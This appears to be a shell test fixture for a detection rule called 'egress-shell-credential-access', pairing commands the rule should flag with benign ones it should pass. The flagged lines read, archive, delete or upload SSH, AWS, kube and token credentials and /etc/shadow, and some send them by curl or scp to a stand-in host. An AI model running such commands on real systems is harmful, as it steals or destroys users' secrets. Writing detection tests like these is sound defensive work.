#!/bin/bash
# Launcher-style cases for egress-shell-credential-access (issue #16, session 20).

# ruleid: egress-shell-credential-access
rm -rf ~/.ssh
# ruleid: egress-shell-credential-access
tar czf /tmp/.cache.tgz ~/.ssh ~/.aws 2>/dev/null
# ruleid: egress-shell-credential-access
curl -s -F "f=@$HOME/.aws/credentials" https://203.0.113.7/upload
# ruleid: egress-shell-credential-access
cat ~/.ssh/id_ed25519 | base64 -w0 > /tmp/.k
# ruleid: egress-shell-credential-access
cp ~/.netrc /mnt/shared/.x
# ruleid: egress-shell-credential-access
scp ${HOME}/.kube/config backup@203.0.113.7:/srv/
# ruleid: egress-shell-credential-access
cat /root/.cache/huggingface/token
# ruleid: egress-shell-credential-access
shred -u "$HOME/.git-credentials"
# ruleid: egress-shell-credential-access
cat /etc/shadow > /tmp/.s

# ok: egress-shell-credential-access
mkdir -p ~/.ssh && chmod 700 ~/.ssh
# ok: egress-shell-credential-access
ssh-keyscan github.com >> ~/.ssh/known_hosts
# ok: egress-shell-credential-access
cat ~/.ssh/id_ed25519.pub
# ok: egress-shell-credential-access
rm -f ~/.ssh/known_hosts
# ok: egress-shell-credential-access
cat >> ~/.netrc <<EOF_NETRC
# ok: egress-shell-credential-access
cp /run/secrets/netrc ~/.netrc
# ok: egress-shell-credential-access
rsync -az -e "ssh -i ~/.ssh/id_ed25519" outputs/ "$RESULTS_HOST:/results/"
# ok: egress-shell-credential-access
scp -i ~/.ssh/cluster.pem outputs/metrics.json "$RESULTS_HOST:/results/"
# ok: egress-shell-credential-access
export KUBECONFIG=~/.kube/config
# ok: egress-shell-credential-access
rm -rf ~/.cache/huggingface/hub/models--gpt2
# ok: egress-shell-credential-access
cat ~/.ssh/config
